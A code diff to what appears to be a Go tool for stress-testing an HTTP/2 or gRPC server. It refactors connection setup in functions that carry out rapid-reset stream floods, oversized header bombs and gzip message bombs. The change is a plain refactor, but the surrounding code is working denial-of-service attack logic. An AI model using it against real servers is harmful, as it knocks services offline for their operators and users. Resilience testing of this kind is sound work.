@@ -268,20 +268,30 @@ func gzipped(size int) []byte {
 // drained reads and forgets what the other side says.
 func drained(c net.Conn) { go io.Copy(io.Discard, c) }
 
+// speak begins HTTP/2, and forgets what the other side says; the connection is nil where
+// that fails.
+func speak(ctx context.Context, addr string) (net.Conn, *http2.Framer) {
+	c := connect(ctx, addr, http2.ClientPreface)
+	if c == nil {
+		return nil, nil
+	}
+	drained(c)
+	f := http2.NewFramer(c, nil)
+	f.WriteSettings()
+	return c, f
+}
+
 // Calls are begun and reset at once, with and without their message.
 func rapidReset(ctx context.Context, addr string) string {
 	var resets atomic.Int64
 	message := frame(0, []byte("\x0a\x0b18600000000\x12\x06000000"))
 	headers := callHeaders()
 	connections := times(ctx, 2, func() {
-		c := connect(ctx, addr, http2.ClientPreface)
+		c, framer := speak(ctx, addr)
 		if c == nil {
 			return
 		}
 		defer c.Close()
-		drained(c)
-		framer := http2.NewFramer(c, nil)
-		framer.WriteSettings()
 		for id := uint32(1); id < 1<<30 && ctx.Err() == nil; id += 2 {
 			if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true}) != nil {
 				return
@@ -350,8 +360,8 @@ func slowLoris(ctx context.Context, addr string) string {
 func headerBombs(ctx context.Context, addr string) string {
 	long := strings.Repeat("x", 4000)
 	table := callHeaders(hpack.HeaderField{Name: "bomb", Value: long})
-	kinds := []func(c net.Conn, f *http2.Framer) error{
-		func(c net.Conn, f *http2.Framer) error {
+	kinds := []func(f *http2.Framer) error{
+		func(f *http2.Framer) error {
 			for id := uint32(1); id < 1000; id += 2 {
 				block := callHeaders(hpack.HeaderField{Name: "long", Value: long}, hpack.HeaderField{Name: "longer", Value: long}, hpack.HeaderField{Name: "longest", Value: long})
 				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
@@ -360,7 +370,7 @@ func headerBombs(ctx context.Context, addr string) string {
 			}
 			return nil
 		},
-		func(c net.Conn, f *http2.Framer) error {
+		func(f *http2.Framer) error {
 			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: callHeaders()}); err != nil {
 				return err
 			}
@@ -371,7 +381,7 @@ func headerBombs(ctx context.Context, addr string) string {
 				}
 			}
 		},
-		func(c net.Conn, f *http2.Framer) error {
+		func(f *http2.Framer) error {
 			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: table, EndHeaders: true, EndStream: true}); err != nil {
 				return err
 			}
@@ -399,12 +409,9 @@ func headerBombs(ctx context.Context, addr string) string {
 			}
 			return
 		}
-		if c := connect(ctx, addr, http2.ClientPreface); c != nil {
+		if c, f := speak(ctx, addr); c != nil {
 			defer c.Close()
-			drained(c)
-			f := http2.NewFramer(c, nil)
-			f.WriteSettings()
-			kinds[k](c, f)
+			kinds[k](f)
 		}
 	})
 	return fmt.Sprintf("%d bombs", bombs)
@@ -434,14 +441,11 @@ func messageBombs(ctx context.Context, addr string) string {
 			}
 			return
 		}
-		c := connect(ctx, addr, http2.ClientPreface)
+		c, f := speak(ctx, addr)
 		if c == nil {
 			return
 		}
 		defer c.Close()
-		drained(c)
-		f := http2.NewFramer(c, nil)
-		f.WriteSettings()
 		headers := callHeaders(hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
 		for id := uint32(1); id < 200; id += 2 {
 			f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true})
